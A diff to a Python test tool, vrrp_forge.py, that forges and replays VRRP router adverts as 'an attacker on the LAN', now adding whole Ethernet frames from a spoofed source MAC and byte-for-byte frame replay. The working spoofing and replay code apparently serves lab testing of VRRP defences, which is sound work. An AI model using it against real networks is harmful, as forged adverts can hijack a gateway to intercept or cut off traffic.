@@ -2,12 +2,13 @@
 """Forged and replayed VRRP adverts for the lab tests (an attacker on the LAN).
 
   vrrp_forge.py forge --src A --dst B --vrid N --priority P[,P...] [--count N] [--interval-ms M]
-                      [--advert-cs C] [--vip V]
+                      [--advert-cs C] [--vip V] [--iface IF --src-mac MAC --dst-mac MAC]
       sends VRRPv3 adverts claiming source A (IP_HDRINCL, TTL 255, correct
-      checksum), cycling through the priorities, COUNT in all, every M ms
+      checksum), cycling through the priorities, COUNT in all, every M ms;
+      with --src-mac, as whole Ethernet frames on IF from that (spoofed) MAC
   vrrp_forge.py replay --iface IF --from A --count N [--delay-s S]
       captures the next N VRRP packets from A seen on IF, waits S seconds and
-      sends them again, byte for byte (IP header included)
+      sends the frames again, byte for byte (Ethernet and IP headers included)
 
 Prints one line per packet sent. Bounded in count and time: never a flood.
 """
@@ -40,40 +41,52 @@ def advert(src, dst, vrid, priority, advert_cs, vips):
     return header + body
 
 
+def mac_bytes(text):
+    return bytes(int(x, 16) for x in text.split(":"))
+
+
 def forge(args):
-    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    if args.src_mac:
+        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        sock.bind((args.iface, 0))
+        header = mac_bytes(args.dst_mac) + mac_bytes(args.src_mac) + b"\x08\x00"
+        send = lambda packet: sock.send(header + packet)
+    else:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+        send = lambda packet: sock.sendto(packet, (args.dst, 0))
     priorities = [int(p) for p in args.priority.split(",")]
     for i in range(args.count):
         p = priorities[i % len(priorities)]
-        sock.sendto(advert(args.src, args.dst, args.vrid, p, args.advert_cs, args.vip), (args.dst, 0))
+        send(advert(args.src, args.dst, args.vrid, p, args.advert_cs, args.vip))
         print("sent forged advert %d priority %d from %s" % (i + 1, p, args.src), flush=True)
         if i + 1 < args.count:
             time.sleep(args.interval_ms / 1000)
 
 
 def replay(args):
-    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
-    sniff.bind((args.iface, 0))
-    sniff.settimeout(10)
+    # Whole Ethernet frames, captured and sent again as they were (the
+    # destination MAC included: multicast or the peer's).
+    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    tap.bind((args.iface, 0x0800))
+    tap.settimeout(10)
     captured = []
     deadline = time.time() + 10
     while len(captured) < args.count and time.time() < deadline:
         try:
-            packet = sniff.recv(2048)
+            frame = tap.recv(2048)
         except socket.timeout:
             break
-        if len(packet) >= 20 and packet[9] == VRRP and socket.inet_ntoa(packet[12:16]) == args.src:
-            captured.append(packet)
+        ip = frame[14:]
+        if len(ip) >= 20 and ip[9] == VRRP and socket.inet_ntoa(ip[12:16]) == args.src:
+            captured.append(frame)
     if len(captured) < args.count:
         print("captured only %d packets" % len(captured), file=sys.stderr)
         sys.exit(1)
     time.sleep(args.delay_s)
-    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
-    for i, packet in enumerate(captured):
-        sock.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
-        print("replayed packet %d (%d bytes) from %s" % (i + 1, len(packet), args.src), flush=True)
+    for i, frame in enumerate(captured):
+        tap.send(frame)
+        print("replayed packet %d (%d bytes) from %s" % (i + 1, len(frame) - 14, args.src), flush=True)
 
 
 def main():
@@ -88,12 +101,17 @@ def main():
     f.add_argument("--interval-ms", type=float, default=25)
     f.add_argument("--advert-cs", type=int, default=10)
     f.add_argument("--vip", action="append", default=[])
+    f.add_argument("--iface")
+    f.add_argument("--src-mac")
+    f.add_argument("--dst-mac")
     r = sub.add_parser("replay")
     r.add_argument("--iface", required=True)
     r.add_argument("--from", dest="src", required=True)
     r.add_argument("--count", type=int, default=3)
     r.add_argument("--delay-s", type=float, default=1.0)
     args = parser.parse_args()
+    if args.command == "forge" and args.src_mac and not (args.iface and args.dst_mac):
+        parser.error("--src-mac needs --iface and --dst-mac")
     if args.count > 10000:
         parser.error("--count: at most 10000")
     (forge if args.command == "forge" else replay)(args)
